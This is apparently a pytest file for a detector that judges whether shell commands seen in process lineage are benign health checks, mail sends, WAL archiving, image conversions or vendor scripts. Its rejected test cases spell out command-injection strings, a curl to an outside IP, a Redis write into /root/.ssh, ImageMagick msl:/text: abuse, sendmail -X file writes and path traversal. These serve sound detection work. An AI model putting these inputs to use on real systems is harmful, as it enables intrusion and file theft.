"""What a shell was told to do."""

import time

import pytest

from schemas.lineage import Execution
from schemas.shells import (
    archives_log,
    awaits_commands,
    is_health_check,
    is_shell,
    makes_picture,
    runs_script_below,
    sends_mail,
)


@pytest.mark.parametrize(
    ("binary", "arguments", "expected"),
    [
        ("/bin/sh", "", True),
        ("/usr/bin/fish", "", True),
        ("/bin/busybox", "sh", True),
        ("/bin/busybox", "ash -l", True),
        ("/bin/busybox", "ls sh", False),
        ("/bin/busybox", "", False),
        ("/usr/bin/ssh", "", False),
        ("/usr/bin/bashful", "", False),
    ],
)
def test_a_shell_has_the_name_of_one_or_is_one_of_busyboxes(binary: str, arguments: str, expected: bool) -> None:
    assert is_shell(Execution(binary=binary, arguments=arguments)) is expected


@pytest.mark.parametrize(
    "arguments",
    ["", "-i", "-l", "--login", "-il", "--norc --noprofile", "-o vi", "--rcfile /root/.rc -i", "+O extglob"],
)
def test_a_shell_without_command_or_script_awaits_commands(arguments: str) -> None:
    assert awaits_commands("/bin/bash", arguments)


@pytest.mark.parametrize(
    "arguments",
    ["-c id", "-lc id", "-ec id", "/tmp/x.sh", "-x x.sh", "--login x.sh", "-o vi x.sh", "-s", "-", "--version"],
)
def test_a_shell_with_a_command_or_a_script_does_not(arguments: str) -> None:
    assert not awaits_commands("/bin/bash", arguments)


def test_busyboxes_own_first_argument_is_no_script() -> None:
    assert awaits_commands("/bin/busybox", "sh -i")
    assert not awaits_commands("/bin/busybox", "sh x.sh")


@pytest.mark.parametrize(
    "arguments",
    [
        '-c "pg_isready -U postgres"',
        "-c pg_isready",
        '-c "exec pg_isready -U "$POSTGRES_USER" -h ${PGHOST}"',
        '-c "/usr/bin/pg_isready -q > /dev/null 2>&1 || exit 1"',
        '-c "redis-cli -p 6379 ping"',
        '-ec "mysqladmin ping -h localhost"',
        '-c "rabbitmq-diagnostics -q check_running"',
        "/healthcheck.sh",
        "-e /usr/local/bin/docker-healthcheck.sh --fast",
    ],
)
def test_a_health_check_is_one_command_that_asks(arguments: str) -> None:
    assert is_health_check("/bin/sh", arguments)


@pytest.mark.parametrize(
    "arguments",
    [
        "",
        "-i",
        "-c id",
        '-c "pg_isready; id"',
        '-c "pg_isready && id"',
        '-c "pg_isready || id"',
        '-c "pg_isready | sh"',
        '-c "pg_isready $(id)"',
        '-c "pg_isready `id`"',
        '-c "pg_isready > /etc/cron.d/x"',
        '-c "pg_isready\nid"',
        '-c "/tmp/pg_isready -q"',
        '-c "redis-cli config set dir /root/.ssh"',
        '-c "/dev/shm/redis-cli ping"',
        '-c "mysqladmin shutdown"',
        "/tmp/healthcheck.sh",
        "/srv/other.sh healthcheck.sh",
    ],
)
def test_whatever_else_is_in_it_makes_it_none(arguments: str) -> None:
    assert not is_health_check("/bin/sh", arguments)


def test_a_long_command_is_not_worth_a_long_look() -> None:
    began = time.process_time()
    is_health_check("/bin/sh", '-c "pg_isready ' + "$aaaaaaaaaaaa${b} " * 60 + '("')

    assert time.process_time() - began < 0.1


SEGMENT = "000000010000000000000042"


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("/usr/sbin/sendmail -t -i", True),
        ("/usr/sbin/sendmail -t -i ", True),
        ("/usr/lib/sendmail -oi -f shop@example.com -t", True),
        ("/usr/sbin/sendmail -t -i -X/var/www/html/x.php", False),
        ("/usr/sbin/sendmail -t -i; id", False),
        ("/usr/sbin/sendmail -t -f $(id)", False),
        ("/tmp/sendmail -t", False),
        ("sendmail -t", False),
    ],
)
def test_a_mail_is_handed_over_by_nothing_but_sendmail(command: str, expected: bool) -> None:
    assert sends_mail("/bin/sh", f'-c "{command}"') is expected


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        (f"test ! -f /archive/{SEGMENT} && cp pg_wal/{SEGMENT} /archive/{SEGMENT}", True),
        (f"/usr/bin/wal-g wal-push pg_wal/{SEGMENT}", True),
        (f"pgbackrest --stanza=main archive-push /var/lib/postgresql/17/main/pg_wal/{SEGMENT}", True),
        ("cp /etc/passwd /tmp/x", False),
        (f"cp pg_wal/{SEGMENT} /archive/ && id", False),
        (f"curl http://198.51.100.7/x # pg_wal/{SEGMENT}", False),
        (f"/tmp/wal-g wal-push pg_wal/{SEGMENT}", False),
    ],
)
def test_a_segment_is_archived_by_one_command_that_is_known(command: str, expected: bool) -> None:
    assert archives_log("/bin/sh", f'-c "{command}"') is expected


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("convert '/var/www/u/1.png' -resize '100x100>' '/var/www/u/2.png' 2>&1", True),
        ("exec /usr/bin/identify -ping -format %wx%h jpeg:/tmp/php4f2a > /dev/null 2>&1", True),
        (r"convert a.png \( -clone 0 -blur 0x8 \) -auto-orient -strip 'my picture.jpg'", True),
        ("convert a.png b.png; id", False),
        ("convert a.png b.png\nid", False),
        ("convert a.png b.png > /var/www/html/u/2.png", False),
        ("convert a.png `id`", False),
        ("convert a.png '|id'", False),
        ("convert a.png $(id)", False),
        ("convert msl:/tmp/x.png b.png", False),
        ("convert 'https://203.0.113.9/x.svg' b.png", False),
        ("convert text:/etc/passwd b.png", False),
        ("magick -script /tmp/x", False),
        ("convert a.png /var/www/html/uploads/a.php", False),
        ("/tmp/convert a.png b.png", False),
        ("convert 'a.png", False),
        ("id", False),
    ],
)
def test_one_picture_is_made_of_another_and_nothing_else(command: str, expected: bool) -> None:
    assert makes_picture("/bin/sh", f'-c "{command}"') is expected


def test_a_command_that_is_made_to_last_is_soon_refused() -> None:
    begun = time.process_time()
    makes_picture("/bin/sh", f'-c "convert{" a:" * 20_000};"')
    makes_picture("/bin/sh", '-c "convert' + " '" * 20_001 + '"')
    archives_log("/bin/sh", f'-c "cp{f" /a/pg_wal/{SEGMENT}" * 200};"')
    sends_mail("/bin/sh", f'-c "/usr/sbin/sendmail{" -f a" * 2_000};"')

    assert time.process_time() - begun < 0.5


@pytest.mark.parametrize(
    ("arguments", "expected"),
    [
        ("/opt/splunk/etc/apps/x/bin/cpu.sh", True),
        ("-c /opt/splunk/etc/apps/x/bin/cpu.sh", True),
        ("-c id", False),
        ("/opt/splunk/../../tmp/x.sh", False),
        ("/opt/splunkx/x.sh", False),
        ("/opt/splunk/x.sh id", False),
        ('-c "/opt/splunk/x.sh; id"', False),
        ("", False),
    ],
)
def test_a_script_below_a_folder_is_all_that_the_shell_runs(arguments: str, expected: bool) -> None:
    assert runs_script_below("/opt/splunk", "/bin/sh", arguments) is expected
